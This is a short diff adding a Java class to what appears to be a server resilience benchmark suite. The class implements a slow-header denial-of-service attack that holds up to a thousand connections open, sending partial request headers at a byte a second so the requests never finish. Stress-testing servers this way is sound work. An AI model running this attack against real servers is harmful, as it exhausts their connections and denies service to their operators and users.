@@ -1,0 +1,32 @@
+/* SPDX-License-Identifier: LGPL-2.1-or-later */
+package org.copsuite.benchmarks;
+
+import java.io.IOException;
+import java.net.Socket;
+import java.util.ArrayList;
+import java.util.List;
+
+/** A thousand connections send the head of a request at a byte a second, and never end it. */
+final class SlowHeadsAttack implements Attack
+{
+    private static final int CONNECTIONS = 1000;
+
+    @Override
+    public String name()
+    {
+        return "slow-heads";
+    }
+
+    @Override
+    public void run(Siege siege) throws IOException
+    {
+        List<Socket> slow = new ArrayList<>();
+        while (siege.goesOn()) {
+            for (int i = slow.size(); i < CONNECTIONS && siege.goesOn(); i++) {
+                slow.add(siege.open(siege.head("GET", "/bin/view/Main/", null, "X-Slow: ").strip()));
+            }
+            siege.pause(1000);
+            Siege.drip(slow);
+        }
+    }
+}
